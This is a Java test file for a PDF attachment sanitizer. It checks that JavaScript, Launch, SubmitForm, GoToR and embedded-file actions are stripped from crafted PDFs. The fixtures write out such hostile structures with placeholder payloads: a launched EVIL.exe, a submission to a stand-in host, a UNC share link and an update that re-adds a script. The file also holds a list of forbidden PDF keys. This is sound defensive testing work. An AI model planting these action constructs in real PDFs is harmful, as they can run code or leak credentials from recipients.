package org.tawasul.attachment.sanitizer.pdf;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.util.stream.Stream;

import org.apache.pdfbox.Loader;
import org.apache.pdfbox.pdmodel.PDDocument;
import org.apache.pdfbox.pdmodel.PDPage;
import org.apache.pdfbox.pdmodel.interactive.action.PDActionJavaScript;
import org.apache.pdfbox.pdmodel.interactive.annotation.PDAnnotationLink;
import org.apache.pdfbox.text.PDFTextStripper;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;
import org.tawasul.attachment.sanitizer.FileRejectedException;
import org.tawasul.attachment.sanitizer.FileRejectionReason;
import org.tawasul.attachment.sanitizer.TestSanitizers;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatExceptionOfType;
import static org.junit.jupiter.params.provider.Arguments.arguments;

/**
 * Documents with something in them that acts: whatever it is and wherever it hangs, the
 * new document shows the page and has none of it.
 */
class PdfActiveContentTest {

	private static final String[] FORBIDDEN = { "JS", "JavaScript", "Launch", "AA", "A", "Next", "OpenAction", "Action",
			"Names", "EmbeddedFile", "EmbeddedFiles", "Filespec", "EF", "AF", "URI", "GoTo", "GoToR", "GoToE", "XFA",
			"AcroForm", "RichMedia", "3D", "Movie", "Sound", "Rendition", "SubmitForm", "ImportData", "ResetForm",
			"Named", "Annots", "Annot", "Metadata", "PieceInfo", "OC", "OCProperties", "OPI", "Alternates",
			"Properties", "Outlines", "Dests", "Threads", "B", "Collection", "Info", "StructTreeRoot", "Perms",
			"Evil" };

	private static final String SCRIPT = "<< /S /JavaScript /JS (app.alert('EVIL')) >>";

	private static final String LAUNCH = "<< /S /Launch /F (EVIL.exe) >>";

	static Stream<Arguments> documents() throws IOException {
		return Stream.of(arguments("script on opening", new TestPdf().catalog("/OpenAction " + SCRIPT).build()),
				arguments("chain on opening",
						new TestPdf().catalog("/OpenAction 20 0 R")
							.object(20, "<< /S /GoTo /D [3 0 R /Fit] /Next [ " + LAUNCH + " 21 0 R ] >>")
							.object(21, "<< /S /URI /URI (https://EVIL.example) /Next " + SCRIPT + " >>")
							.build()),
				arguments("action of the page",
						new TestPdf().page("/AA << /O " + SCRIPT + " /C " + LAUNCH + " >>").build()),
				arguments("actions of the catalogue", new TestPdf().catalog("/AA << /WC " + SCRIPT + " >>").build()),
				arguments("link with a chain",
						annotated("/Subtype /Link /A << /S /URI /URI (https://EVIL.example) /Next " + LAUNCH + " >>")),
				arguments("actions in a list",
						annotated("/Subtype /Link /A [ " + SCRIPT + " ] /PA [ " + LAUNCH + " ]")),
				arguments("actions of an annotation",
						annotated("/Subtype /Square /AA << /E " + SCRIPT + " /X << /Next " + LAUNCH + " >> >>")),
				arguments("actions of a field",
						field("/FT /Tx /V (Kept) /DA (/F1 12 Tf 0 g) /AA << /K " + SCRIPT + " /V " + SCRIPT + " >>")),
				arguments("button that sends",
						field("/FT /Btn /Ff 65536 /A << /S /SubmitForm /F (https://EVIL.example) >>"
								+ " /MK << /CA (Send) >> /AA << /D << /S /ImportData /F (EVIL.fdf) >> >>")),
				arguments("unknown holders",
						new TestPdf().page("/Evil << /Deep [ << /Deeper " + LAUNCH + " >> ] >>")
							.catalog("/Evil [ [ " + SCRIPT + " ] ]")
							.build()),
				arguments("scripts of the document",
						new TestPdf().catalog("/Names << /JavaScript << /Names [ (a) " + SCRIPT + " ] >> >>").build()),
				arguments("embedded files",
						new TestPdf()
							.catalog("/Names << /EmbeddedFiles << /Names [ (EVIL) 20 0 R ] >> >>"
									+ " /AF [ 20 0 R ] /Collection << /View /D >>")
							.object(20, "<< /Type /Filespec /F (EVIL.exe) /EF << /F 21 0 R >> >>")
							.stream(21, "/Type /EmbeddedFile", "EVIL content")
							.build()),
				arguments("attached file",
						annotated("/Subtype /FileAttachment /FS << /Type /Filespec /F (EVIL.exe) >> /Name /Paperclip")),
				arguments("share of a stranger's server",
						annotated("/Subtype /Link /A << /S /GoToR /F (\\\\\\\\EVIL\\\\share\\\\x.pdf) /D [0 /Fit] >>")),
				arguments("base of addresses", new TestPdf().catalog("/URI << /Base (file://EVIL/) >>").build()),
				arguments("films and models",
						annotated("/Subtype /RichMedia /RichMediaContent << /Assets << /Names"
								+ " [ (EVIL.swf) << /Type /Filespec /F (EVIL.swf) >> ] >> >> /3DD << /Type /3D >>"
								+ " /Movie << /F (EVIL.avi) >> /A << /S /Rendition /JS (EVIL) >>")),
				arguments("form with an XFA part", new TestPdf().catalog(
						"/AcroForm << /Fields [ 20 0 R ] /DR << /Font << /F1 5 0 R >> >> /XFA [ (template) 21 0 R ] >>")
					.page("/Annots [ 20 0 R ]")
					.object(20,
							"<< /Subtype /Widget /FT /Tx /T (a) /V (Kept) /DA (/F1 12 Tf 0 g)"
									+ " /Rect [72 600 300 620] >>")
					.stream(21, "", "<template>EVIL</template>")
					.build()),
				arguments("form XObject with files",
						drawn("/Type /XObject /Subtype /Form /BBox [0 0 100 100] /Metadata 21 0 R"
								+ " /AF [ << /Type /Filespec /F (EVIL) >> ] /PieceInfo << /Evil << /Private " + SCRIPT
								+ " >> >> /OC << /Type /OCG /Name (EVIL) >> /Evil " + LAUNCH, "0 0 50 50 re f")),
				arguments("picture with a stranger",
						drawn("/Type /XObject /Subtype /Image /Width 1 /Height 1 /ColorSpace"
								+ " /DeviceGray /BitsPerComponent 8 /Metadata 21 0 R /Alternates [ << /Image 21 0 R >> ]"
								+ " /OPI << /2.0 << /F (EVIL) >> >>", "x")),
				arguments("resources with actions",
						new TestPdf().resources("/Properties << /MC0 "
								+ SCRIPT + " >> /Evil " + LAUNCH + " /XObject << /X " + SCRIPT + " /Y [ " + LAUNCH
								+ " ] >> /ExtGState << /G << /Evil " + SCRIPT + " >> >>")
							.build()),
				arguments("actions in object streams", compressed()),
				arguments("bookmarks, threads, layers", new TestPdf().catalog("/Outlines << /First << /Title (EVIL) /A "
						+ SCRIPT + " >> >>"
						+ " /Threads [ << /I << /Title (EVIL) >> >> ] /OCProperties << /OCGs [ 20 0 R ] /D << >> >>")
					.object(20, "<< /Type /OCG /Name (EVIL) >>")
					.build()),
				arguments("an update that brings it back", updated()));
	}

	private static byte[] annotated(String entries) {
		return new TestPdf().page("/Annots [ 20 0 R ]")
			.object(20, "<< /Type /Annot /Rect [72 600 300 620] " + entries + " >>")
			.build();
	}

	private static byte[] field(String entries) {
		return new TestPdf().page("/Annots [ 20 0 R ]")
			.catalog("/AcroForm << /Fields [ 20 0 R ] /DR << /Font << /F1 5 0 R >> >> >>")
			.object(20, "<< /Type /Annot /Subtype /Widget /T (a) /Rect [72 600 300 620] " + entries + " >>")
			.build();
	}

	private static byte[] drawn(String entries, String content) {
		return new TestPdf().resources("/XObject << /X 20 0 R >>")
			.stream(4, "", "/X Do BT /F1 24 Tf 72 700 Td (Plain page) Tj ET")
			.stream(20, entries, content)
			.stream(21, "/Type /Metadata /Subtype /XML", "EVIL")
			.build();
	}

	private static byte[] compressed() throws IOException {
		try (PDDocument document = Loader.loadPDF(new TestPdf().build())) {
			document.getDocumentCatalog().setOpenAction(new PDActionJavaScript("EVIL"));
			PDPage page = document.getPage(0);
			PDAnnotationLink link = new PDAnnotationLink();
			link.setAction(new PDActionJavaScript("EVIL"));
			page.getAnnotations().add(link);
			ByteArrayOutputStream out = new ByteArrayOutputStream();
			document.save(out);
			assertThat(out.toString()).contains("/ObjStm").doesNotContain("EVIL");
			return out.toByteArray();
		}
	}

	private static byte[] updated() throws IOException {
		byte[] sound = new TestPdf().build();
		ByteArrayOutputStream out = new ByteArrayOutputStream();
		out.write(sound);
		int start = out.size();
		out.writeBytes(("1 0 obj\n<< /Type /Catalog /Pages 2 0 R /OpenAction " + SCRIPT + " >>\nendobj\n").getBytes());
		int table = out.size();
		String old = new String(sound).replaceAll("(?s).*startxref\\s+(\\d+).*", "$1");
		out.writeBytes(
				"xref\n1 1\n%010d 00000 n \ntrailer\n<< /Size 200 /Root 1 0 R /Prev %s >>\nstartxref\n%d\n%%%%EOF\n"
					.formatted(start, old, table)
					.getBytes());
		return out.toByteArray();
	}

	@ParameterizedTest(name = "{0}")
	@MethodSource("documents")
	void nothingThatActsIsLeft(String name, byte[] raw) throws IOException {
		byte[] sanitized = TestSanitizers.clean(raw, "a.pdf").content();
		PdfObjects objects = PdfObjects.of(sanitized);
		assertThat(objects.names()).doesNotContain(FORBIDDEN);
		assertThat(objects.texts()).doesNotContain("EVIL");
		try (PDDocument document = Loader.loadPDF(sanitized)) {
			assertThat(new PDFTextStripper().getText(document)).contains("Plain page");
		}
	}

	@ParameterizedTest(name = "{0}")
	@MethodSource("documents")
	void theOriginalDocumentHasIt(String name, byte[] raw) {
		assertThat(PdfObjects.of(raw).names()).containsAnyOf(FORBIDDEN);
		assertThat(PdfObjects.of(raw).texts()).contains("EVIL");
	}

	@Test
	void valuesOfAStaticXfaFormAreKept() throws IOException {
		byte[] raw = documents().filter((one) -> one.get()[0].equals("form with an XFA part"))
			.map((one) -> (byte[]) one.get()[1])
			.findFirst()
			.orElseThrow();
		try (PDDocument document = Loader.loadPDF(TestSanitizers.clean(raw, "a.pdf").content())) {
			assertThat(new PDFTextStripper().getText(document)).contains("Plain page", "Kept");
		}
	}

	@Test
	void dynamicXfaFormIsRefused() {
		byte[] raw = new TestPdf().catalog("/AcroForm << /Fields [] /XFA 20 0 R >> /NeedsRendering true")
			.stream(20, "", "<xdp:xdp>Sara typed this</xdp:xdp>")
			.build();
		assertThatExceptionOfType(FileRejectedException.class).isThrownBy(() -> TestSanitizers.clean(raw, "a"))
			.satisfies((rejected) -> assertThat(rejected.reason()).isEqualTo(FileRejectionReason.DYNAMIC_FORM));
	}

}
